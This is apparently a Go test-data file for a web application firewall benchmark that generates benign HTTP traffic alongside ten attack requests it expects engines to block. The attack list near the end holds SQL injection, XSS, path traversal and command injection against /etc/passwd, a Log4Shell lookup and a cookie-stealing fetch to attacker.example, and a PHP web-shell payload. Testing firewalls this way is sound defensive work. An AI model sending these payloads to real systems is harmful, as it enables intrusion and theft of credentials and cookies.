package peers

import (
	"bytes"
	"embed"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
)

//go:embed testdata/*.raw
var recorded embed.FS

// Row is a kind of traffic.
type Row struct {
	Name     string
	Requests [][]byte // raw HTTP/1.1, sent in turn
	Blocked  bool     // every one of them is an attack
}

// Rows returns the traffic of `make bench-waf`: the recorded requests of testdata
// and six more kinds that are built here, the same in every run. At paranoia level
// 1 every engine passes all of them but the attacks, and blocks each attack.
func Rows() ([]Row, error) {
	var rows []Row
	for _, name := range []string{"get_plain", "get_args", "post_form2k", "post_json10k", "post_json100k", "attack_sqli"} {
		raw, err := recorded.ReadFile("testdata/" + name + ".raw")
		if err != nil {
			return nil, err
		}
		rows = append(rows, Row{Name: name, Requests: [][]byte{raw}, Blocked: strings.HasPrefix(name, "attack")})
	}
	return append(rows,
		Row{Name: "upload_1m", Requests: [][]byte{upload(960 << 10)}},
		Row{Name: "api_json_small", Requests: apiCalls(16)},
		Row{Name: "many_headers", Requests: [][]byte{manyHeaders(60)}},
		Row{Name: "new_headers", Requests: newHeaders(4000)},
		Row{Name: "long_cookies", Requests: [][]byte{longCookies(20, 300)}},
		Row{Name: "attack_mix", Requests: attacks(), Blocked: true},
	), nil
}

const browser = "Host: shop.example.com\r\n" +
	"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n" +
	"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n" +
	"Accept-Language: en-US,en;q=0.5\r\n" +
	"Accept-Encoding: gzip, deflate, br\r\n"

func get(target, headers string) []byte {
	return []byte("GET " + target + " HTTP/1.1\r\n" + browser + headers + "\r\n")
}

func post(target, contentType, headers string, body []byte) []byte {
	return fmt.Appendf(
		nil,
		"POST %s HTTP/1.1\r\n%sContent-Type: %s\r\nContent-Length: %d\r\n%s\r\n%s",
		target,
		browser,
		contentType,
		len(body),
		headers,
		body,
	)
}

var words = strings.Fields("summer winter jacket blue green order number street garden coffee kitchen table " +
	"morning evening travel picture school station bicycle paper silver market weather bottle season letter")

// chance is a source of numbers that is the same in every run.
func chance(seed uint64) *rand.Rand { return rand.New(rand.NewPCG(seed, seed)) }

func text(r *rand.Rand, n int) string {
	list := make([]string, n)
	for i := range list {
		list[i] = words[r.IntN(len(words))]
	}
	return strings.Join(list, " ")
}

func token(r *rand.Rand, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[r.IntN(len(digits))]
	}
	return string(b)
}

// upload is a form with two fields and a picture of the given size.
func upload(size int) []byte {
	r := chance(1)
	const boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW8"
	var b bytes.Buffer
	for _, name := range []string{"title", "album"} {
		fmt.Fprintf(&b, "--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n", boundary, name, text(r, 4))
	}
	fmt.Fprintf(
		&b,
		"--%s\r\nContent-Disposition: form-data; name=\"picture\"; filename=\"garden.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n",
		boundary,
	)
	for b.Len() < size {
		b.WriteByte(byte(r.Uint32()))
	}
	fmt.Fprintf(&b, "\r\n--%s--\r\n", boundary)
	return post("/account/pictures", "multipart/form-data; boundary="+boundary, "", b.Bytes())
}

// apiCalls are different small JSON documents, as an application's API gets them.
func apiCalls(n int) [][]byte {
	r := chance(2)
	var list [][]byte
	for i := range n {
		body := fmt.Sprintf(`{"id":%d,"product":"%s","quantity":%d,"price":%d.%02d,"gift":%t,"note":"%s","tags":["%s","%s"]}`,
			1000+i, text(r, 2), 1+r.IntN(9), r.IntN(200), r.IntN(100), i%3 == 0, text(r, 6), text(r, 1), text(r, 1))
		list = append(list, post("/api/v1/cart/items", "application/json", "X-Requested-With: XMLHttpRequest\r\n", []byte(body)))
	}
	return list
}

// manyHeaders is a request that has been through proxies that each add fields.
func manyHeaders(n int) []byte {
	r := chance(3)
	var h strings.Builder
	for i := range n {
		fmt.Fprintf(&h, "X-Edge-%s-%02d: %s\r\n", words[i%len(words)], i, token(r, 16+r.IntN(48)))
	}
	return get("/products/list", h.String())
}

// newHeaders are plain GETs of which no two have a value of a header in common, but for
// those that have a few values only: what an engine remembers of values is no use.
func newHeaders(n int) [][]byte {
	r := chance(5)
	list := make([][]byte, n)
	for i := range list {
		list[i] = fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s.shop.example.com\r\n"+
			"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.%d.%d Safari/537.36\r\n"+
			"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.%d\r\n"+
			"Accept-Language: en-US,en;q=0.%d,de;q=0.7\r\nAccept-Encoding: gzip, deflate, br\r\nCache-Control: max-age=%d\r\n"+
			"Sec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Site: same-origin\r\nUpgrade-Insecure-Requests: 1\r\n"+
			"Referer: https://shop.example.com/products/%s\r\n\r\n",
			token(r, 12), r.IntN(1e9), i, 100000+i, 100000+i, i, token(r, 16))
	}
	return list
}

// longCookies is a request with n cookies of the given length.
func longCookies(n, length int) []byte {
	r := chance(4)
	list := make([]string, n)
	for i := range list {
		list[i] = fmt.Sprintf("%s_%02d=%s", words[i%len(words)], i, token(r, length))
	}
	return get("/products/list?page=3", "Cookie: "+strings.Join(list, "; ")+"\r\n")
}

// attacks are ten of different kinds, at different places of a request.
func attacks() [][]byte {
	q := url.QueryEscape
	const form, json = "application/x-www-form-urlencoded", "application/json"
	return [][]byte{
		get("/search?q="+q("1' UNION SELECT username,password FROM users-- -"), ""),
		get("/search?q="+q("<script>alert(document.cookie)</script>"), ""),
		get("/download?file="+q("../../../../etc/passwd"), ""),
		get("/ping?host="+q("127.0.0.1;cat /etc/passwd"), ""),
		get("/", "X-Api-Version: ${jndi:ldap://attacker.example/a}\r\n"),
		get("/.git/config", ""),
		post("/login", form, "", []byte("user="+q("admin' OR '1'='1' -- ")+"&password=x")),
		post("/comments", form, "", []byte("text="+q(`<img src=x onerror="fetch('//attacker.example/'+document.cookie)">`))),
		post("/api/v1/search", json, "", []byte(`{"q":"x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"}`)),
		post("/api/v1/run", form, "", []byte("page="+q("<?php system($_GET['c']); ?>"))),
	}
}
